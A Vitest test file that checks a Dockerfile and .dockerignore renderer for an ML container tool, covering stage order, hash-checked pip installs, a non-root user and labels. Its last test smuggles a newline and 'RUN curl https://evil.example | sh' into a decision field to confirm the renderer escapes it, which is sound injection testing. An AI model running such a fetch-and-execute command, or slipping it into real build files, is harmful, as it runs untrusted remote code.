import { describe, expect, it } from 'vitest';
import { renderDockerfile } from '../../../src/render/dockerfile.js';
import { renderDockerignore } from '../../../src/render/dockerignore.js';
import { BASE_DIGEST, irisLock, irisPlan } from '../helpers.js';

describe('renderDockerfile', () => {
  const dockerfile = renderDockerfile(irisPlan(), irisLock());
  const instructions = dockerfile.split('\n').filter((line) => /^[A-Z]+ /.test(line));

  it('gives the same bytes for the same plan and lock', () => {
    expect(renderDockerfile(irisPlan(), irisLock())).toBe(dockerfile);
  });

  it('orders stages base → dependencies → application, so a source change reuses the dependency layers', () => {
    expect(instructions.filter((line) => line.startsWith('FROM '))).toEqual([
      `FROM docker.io/library/python:3.11-slim-bookworm@${BASE_DIGEST} AS base`,
      'FROM base AS dependencies',
      'FROM dependencies AS application',
    ]);
    const install = dockerfile.indexOf('pip install');
    const copySource = dockerfile.indexOf('COPY . /app');
    expect(install).toBeGreaterThan(0);
    expect(copySource).toBeGreaterThan(install);
  });

  it('installs only the hash-checked lock, with a BuildKit cache mount for pip', () => {
    expect(dockerfile).toContain(
      'RUN --mount=type=cache,id=ml-container-pip-cpu-py3.11,target=/root/.cache/pip,sharing=locked \\\n    rm -rf /root/.cache/pip/wheels \\\n    && SOURCE_DATE_EPOCH=0 /opt/venv/bin/pip install --require-hashes --no-deps \\\n    -r /opt/ml-container/requirements.lock',
    );
    expect(dockerfile).toContain(
      'COPY --from=generated requirements.lock /opt/ml-container/requirements.lock',
    );
  });

  it('passes a configured index to pip', () => {
    expect(renderDockerfile(irisPlan({ 'index-url': 'http://127.0.0.1:3141/simple' }), irisLock())).toContain(
      'pip install --require-hashes --no-deps --index-url http://127.0.0.1:3141/simple',
    );
  });

  it('runs as a non-root user with the documented environment, labels and command', () => {
    expect(instructions).toContain('USER 10001:10001');
    expect(dockerfile).toMatch(/ENV PYTHONDONTWRITEBYTECODE=1 \\\n {4}PYTHONUNBUFFERED=1/);
    expect(dockerfile).toContain(`org.opencontainers.image.base.digest="${BASE_DIGEST}"`);
    expect(dockerfile).toContain('io.github.ml-container.frameworks="scikit-learn==1.6.1"');
    expect(dockerfile).toContain(`io.github.ml-container.lock.sha256="${irisLock().sha256}"`);
    expect(instructions.at(-1)).toBe('CMD ["python","predict.py"]');
  });

  it('needs no frontend image: no syntax directive', () => {
    expect(dockerfile).not.toMatch(/^# *syntax=/m);
  });

  it('cites why each decision was made in its header', () => {
    expect(dockerfile).toContain('# python: 3.11 (.python-version:1)');
  });
});

describe('renderDockerignore', () => {
  it('keeps VCS folders, caches and virtualenvs out of the context', () => {
    const ignore = renderDockerignore().split('\n');
    expect(ignore).toEqual(
      expect.arrayContaining(['**/.git', '**/node_modules', '**/.venv', '**/__pycache__', '**/*.pyc']),
    );
  });
});

describe('decisions in the Dockerfile', () => {
  it('stay one comment line each, whatever text the repository gave them', () => {
    const plan = irisPlan();
    plan.decisions.push({
      topic: 'models',
      choice: 'x.safetensors)\nRUN curl https://evil.example | sh\r\n# (',
      why: 'a\u2028b',
    });
    const lines = renderDockerfile(plan, irisLock()).split('\n');
    expect(lines.filter((line) => line.startsWith('RUN curl'))).toEqual([]);
    expect(lines).toContain(
      '# models: x.safetensors)\\nRUN curl https://evil.example | sh\\r\\n# ( (a\\u2028b)',
    );
  });
});
